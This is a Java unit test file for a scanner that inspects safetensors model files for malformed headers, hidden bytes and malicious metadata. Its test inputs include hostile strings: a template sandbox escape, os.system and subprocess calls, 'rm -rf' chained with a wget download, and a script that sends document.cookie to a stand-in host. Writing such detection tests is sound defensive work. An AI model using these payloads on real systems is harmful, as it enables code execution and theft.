package dev.weir.scanner.core.safetensors;

import static dev.weir.scanner.core.Scans.rules;
import static dev.weir.scanner.core.Scans.scan;
import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.scanner.core.ArtifactReport;
import dev.weir.scanner.core.Verdict;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SafetensorsFormatTest {

    private static final String SOUND = """
            {"__metadata__":{"format":"pt"},
             "a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},
             "b":{"dtype":"U8","shape":[2,2],"data_offsets":[8,12]}}""";

    @Test
    void aSoundFileIsClean() {
        ArtifactReport report = scan("model.safetensors", file(SOUND, 12));

        assertThat(report.findings()).isEmpty();
        assertThat(report.formats()).containsExactly("safetensors");
    }

    @Test
    void aHeaderLengthThatLooksLikeAPickleIsNoPickle() {
        String padded = SOUND + " ".repeat(0x0280 - SOUND.length());

        assertThat(scan(file(padded, 12)).formats()).containsExactly("safetensors");
    }

    @ParameterizedTest
    @CsvSource({
        "0, 16, safetensors.bounds",
        "8, 0, safetensors.bounds",
        "4, 8, safetensors.hidden-bytes",
        "0, 4, safetensors.shape"
    })
    void offsetsThatCannotBeAreFound(int from, int to, String rule) {
        String header = "{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[" + from + "," + to + "]}}";

        assertThat(rules(scan(file(header, 8)))).contains(rule);
    }

    @Test
    void tensorsThatShareBytesAreSuspicious() {
        String header = """
                {"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8]},"b":{"dtype":"U8","shape":[8],"data_offsets":[4,12]}}""";

        assertThat(rules(scan(file(header, 12)))).containsExactly("safetensors.overlap");
    }

    @Test
    void bytesBehindTheLastTensorAreSuspicious() {
        assertThat(rules(scan(file(SOUND, 40)))).containsExactly("safetensors.hidden-bytes");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]},\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]}}",
                "{\"a\":{\"dtype\":\"U8\",\"shape\":[1]}}",
                "{\"a\":{\"dtype\":\"U8\",\"shape\":[-1],\"data_offsets\":[0,1]}}",
                "{\"a\":{\"dtype\":\"U8\",\"shape\":[9999999999,9999999999],\"data_offsets\":[0,1]}}",
                "{\"a\":"
            })
    void aHeaderThatReadersResolveDifferentlyIsUnscannable(String header) {
        assertThat(scan(file(header, 1)).verdict()).isEqualTo(Verdict.UNSCANNABLE);
    }

    @Test
    void aTemplateInTheMetadataThatLeavesItsSandboxIsMalicious() {
        String header = "{\"__metadata__\":{\"chat_template\":\"{{ ''.__class__.__mro__ }}\"}}";

        assertThat(rules(scan(file(header, 0)))).containsExactly("text.template-escape");
    }

    private static byte[] file(String header, int data) {
        byte[] json = header.getBytes(StandardCharsets.UTF_8);
        return ByteBuffer.allocate(8 + json.length + data)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putLong(json.length)
                .put(json)
                .array();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "Call os.system('x') to set it up.",
                "wget http://acme.example/weights",
                "rm -rf /tmp/test"
            })
    void codeInTheMetadataIsSuspicious(String text) {
        assertThat(scan(file("{\"__metadata__\":{\"info\":\"" + text + "\"}}", 0))
                        .verdict())
                .isEqualTo(Verdict.SUSPICIOUS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import os; os.system('echo pwned')",
                "import subprocess",
                "import subprocess; subprocess.call(['curl', 'http://acme.example'])",
                "rm -rf /tmp/test && wget http://acme.example/script.sh",
                "<script>fetch('http://acme.example', {body: document.cookie})</script>"
            })
    void aProgramInTheMetadataIsMalicious(String text) {
        assertThat(scan(file("{\"__metadata__\":{\"info\":\"" + text + "\"}}", 0))
                        .verdict())
                .isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void anAddressIsSuspiciousWhereTheModelWouldCallBack() {
        assertThat(rules(scan(file("{\"__metadata__\":{\"callback_url\":\"http://acme.example/\"}}", 0))))
                .containsExactly("metadata.callback");
        assertThat(scan(file("{\"__metadata__\":{\"source\":\"http://acme.example/\"}}", 0))
                        .findings())
                .isEmpty();
    }

    @Test
    void aDescriptionThatSpeaksOfCodeIsClean() {
        String text = "Call model.eval() first; os.system and exec are not needed.";

        assertThat(scan(file("{\"__metadata__\":{\"info\":\"" + text + "\"}}", 0))
                        .findings())
                .isEmpty();
    }
}
